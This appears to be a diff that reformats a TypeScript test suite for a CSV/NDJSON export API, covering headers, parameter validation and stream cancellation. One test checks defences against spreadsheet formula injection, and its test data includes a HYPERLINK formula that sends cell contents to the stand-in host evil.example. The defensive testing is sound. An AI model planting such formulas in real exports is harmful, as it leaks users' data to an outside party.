@@ -20,7 +20,18 @@ async function setup(store?: (t: TestApp) => StoreReads & MaintenanceReads & Rej
   const t = await testApp();
   const log = createLogger("error", () => {}, t.clock);
   // The full app (export is mounted there), over the given store wrapper when a test needs one.
-  const app = createApp({ config: t.config, store: store ? store(t) : t.store, writer: t.writer, clock: t.clock, version: "0.0.0-test", log, metrics: t.metrics, maintenance: t.maintenance, relay: t.relay, issues: t.issues });
+  const app = createApp({
+    config: t.config,
+    store: store ? store(t) : t.store,
+    writer: t.writer,
+    clock: t.clock,
+    version: "0.0.0-test",
+    log,
+    metrics: t.metrics,
+    maintenance: t.maintenance,
+    relay: t.relay,
+    issues: t.issues,
+  });
   const exportRes = (qs = "") => app.handle(new Request(`http://localhost/api/export${qs}`));
   const exportText = async (qs = "") => {
     const res = await exportRes(qs);
@@ -32,13 +43,28 @@ async function setup(store?: (t: TestApp) => StoreReads & MaintenanceReads & Rej
 
 const parseNdjson = (text: string) => {
   expect(text === "" || text.endsWith("\n")).toBe(true);
-  return text === "" ? [] : text.slice(0, -1).split("\n").map((line) => JSON.parse(line) as Record<string, unknown>);
+  return text === ""
+    ? []
+    : text
+        .slice(0, -1)
+        .split("\n")
+        .map((line) => JSON.parse(line) as Record<string, unknown>);
 };
 
 /** Executions in progress loaded straight into the store (much faster than HTTP for thousands of rows). */
 function seedRows(write: (ops: WriteOp[]) => unknown, n: number, at: number) {
   const ops: WriteOp[] = [];
-  for (let i = 0; i < n; i++) ops.push({ kind: "load", at: at + i, execution: execution(`seed-${i}`, { nsapp: "seeded", createdAt: at + i, updatedAt: at + i, installingAt: at + i }) });
+  for (let i = 0; i < n; i++)
+    ops.push({
+      kind: "load",
+      at: at + i,
+      execution: execution(`seed-${i}`, {
+        nsapp: "seeded",
+        createdAt: at + i,
+        updatedAt: at + i,
+        installingAt: at + i,
+      }),
+    });
   write(ops);
 }
 
@@ -93,7 +119,14 @@ describe("GET /api/export", () => {
     expect(lines[0]!.error).toContain('"E: unable", exit 100');
     expect(lines[1]!.error).toContain("\n");
     expect(lines[2]!.error).toContain("日本語 🚀");
-    expect(lines[3]).toMatchObject({ disk_size: null, disableip6: null, method: null, os_version: null, error: null, duration_s: null });
+    expect(lines[3]).toMatchObject({
+      disk_size: null,
+      disableip6: null,
+      method: null,
+      os_version: null,
+      error: null,
+      duration_s: null,
+    });
   });
 
   test("CSV round trip: a strict RFC 4180 parse gives back every field as text", async () => {
@@ -110,11 +143,19 @@ describe("GET /api/export", () => {
 
   test("CSV cells are guarded against formula injection; NDJSON keeps the values as they are", async () => {
     const t = await setup();
-    const payloads = { hyperlink: '=HYPERLINK("http://evil.example/?"&A1,"click")', plus: "+1", minus: "-2+3", at: "@SUM(1)" };
+    const payloads = {
+      hyperlink: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      plus: "+1",
+      minus: "-2+3",
+      at: "@SUM(1)",
+    };
     await t.post("/upload", startReport("inj-1", { nsapp: payloads.hyperlink, method: payloads.plus }));
     await t.post("/upload/updatestatus", { status: "failed", error: payloads.minus, random_id: "inj-1" });
     t.clock.advance(1000);
-    await t.post("/upload", startReport("inj-2", { nsapp: payloads.at, method: payloads.minus, os_version: payloads.plus }));
+    await t.post(
+      "/upload",
+      startReport("inj-2", { nsapp: payloads.at, method: payloads.minus, os_version: payloads.plus }),
+    );
     await t.post("/upload/updatestatus", { status: "failed", error: payloads.at, random_id: "inj-2" });
 
     const [header, one, two] = parseCsv(await t.exportText("?format=csv"));
@@ -149,7 +190,12 @@ describe("GET /api/export", () => {
     for (const [i, p] of plan.entries()) {
       t.clock.advance(origin + p.day * DAY + HOUR + i * 60_000 - t.clock()); // 13:0i on its day
       await t.post("/upload", startReport(p.id, { nsapp: p.nsapp, type: p.type, ct_type: p.type === "vm" ? 2 : 1 }));
-      if (p.final) await t.post("/upload/updatestatus", { status: p.final, error: p.final === "failed" ? `exit ${p.id}` : "none", random_id: p.id });
+      if (p.final)
+        await t.post("/upload/updatestatus", {
+          status: p.final,
+          error: p.final === "failed" ? `exit ${p.id}` : "none",
+          random_id: p.id,
+        });
     }
     const cases: [string, string[]][] = [
       ["", plan.map((p) => p.id)],
@@ -186,11 +232,17 @@ describe("GET /api/export", () => {
 
   test("headers: content type per format, attachment with a UTC-stamped file name; csv by default", async () => {
     const t = await setup();
-    for (const [qs, type, ext] of [["?format=csv", CONTENT_TYPES.csv, "csv"], ["?format=ndjson", CONTENT_TYPES.ndjson, "ndjson"], ["", CONTENT_TYPES.csv, "csv"]] as const) {
+    for (const [qs, type, ext] of [
+      ["?format=csv", CONTENT_TYPES.csv, "csv"],
+      ["?format=ndjson", CONTENT_TYPES.ndjson, "ndjson"],
+      ["", CONTENT_TYPES.csv, "csv"],
+    ] as const) {
       const res = await t.exportRes(qs);
       expect(res.status).toBe(200);
       expect(res.headers.get("content-type")).toBe(type);
-      expect(res.headers.get("content-disposition")).toBe(`attachment; filename="installstats-20260601T120000Z.${ext}"`);
+      expect(res.headers.get("content-disposition")).toBe(
+        `attachment; filename="installstats-20260601T120000Z.${ext}"`,
+      );
       expect(res.body).toBeInstanceOf(ReadableStream);
       await res.text();
     }
@@ -200,7 +252,13 @@ describe("GET /api/export", () => {
 
   test("bad parameters answer 400 naming the parameter before any export starts", async () => {
     const t = await setup();
-    for (const [qs, field] of [["?format=xlsx", "format"], ["?from=yesterday", "from"], ["?days=3&from=2026-01-01", "days"], ["?outcome=great", "outcome"], ["?from=2026-06-02&to=2026-06-01", "from"]] as const) {
+    for (const [qs, field] of [
+      ["?format=xlsx", "format"],
+      ["?from=yesterday", "from"],
+      ["?days=3&from=2026-01-01", "days"],
+      ["?outcome=great", "outcome"],
+      ["?from=2026-06-02&to=2026-06-01", "from"],
+    ] as const) {
       const res = await t.exportRes(qs);
       expect({ qs, status: res.status }).toEqual({ qs, status: 400 });
       expect(await res.json()).toMatchObject({ error: "invalid_field", field });
@@ -215,7 +273,9 @@ describe("GET /api/export", () => {
     expect(op.summary).toBeString();
     expect(op.description).toContain("lossless");
     expect(Object.keys(op.responses[200].content)).toEqual([CONTENT_TYPES.csv, CONTENT_TYPES.ndjson]);
-    expect(op.parameters.map((p: { name: string }) => p.name)).toEqual(expect.arrayContaining(["format", "nsapp", "outcome", "from", "to", "days", "q"]));
+    expect(op.parameters.map((p: { name: string }) => p.name)).toEqual(
+      expect.arrayContaining(["format", "nsapp", "outcome", "from", "to", "days", "q"]),
+    );
   });
 });
 
@@ -223,16 +283,19 @@ describe("cancellation", () => {
   /** The real store, with iterateExecutions wrapped to count opened and closed iterators. */
   function tracking(t: TestApp) {
     const counts = { opened: 0, closed: 0 };
-    const store: StoreReads & MaintenanceReads & RejectedReads = Object.assign(Object.create(t.store) as StoreReads & MaintenanceReads & RejectedReads, {
-      async *executionChunks(...args: Parameters<StoreReads["executionChunks"]>) {
-        counts.opened++;
-        try {
-          yield* t.store.executionChunks(...args); // return() reaches the store's iterator
-        } finally {
-          counts.closed++;
-        }
+    const store: StoreReads & MaintenanceReads & RejectedReads = Object.assign(
+      Object.create(t.store) as StoreReads & MaintenanceReads & RejectedReads,
+      {
+        async *executionChunks(...args: Parameters<StoreReads["executionChunks"]>) {
+          counts.opened++;
+          try {
+            yield* t.store.executionChunks(...args); // return() reaches the store's iterator
+          } finally {
+            counts.closed++;
+          }
+        },
       },
-    });
+    );
     return { store, counts };
   }
 
@@ -274,7 +337,9 @@ describe("cancellation", () => {
           try {
             for (let i = 0; ; i++) {
               counts.pulled++;
-              yield Array.from({ length: 100 }, (_, j) => row({ randomId: `endless-${i}-${j}`, error: "x".repeat(200) }));
+              yield Array.from({ length: 100 }, (_, j) =>
+                row({ randomId: `endless-${i}-${j}`, error: "x".repeat(200) }),
+              );
             }
           } finally {
             counts.closed++;
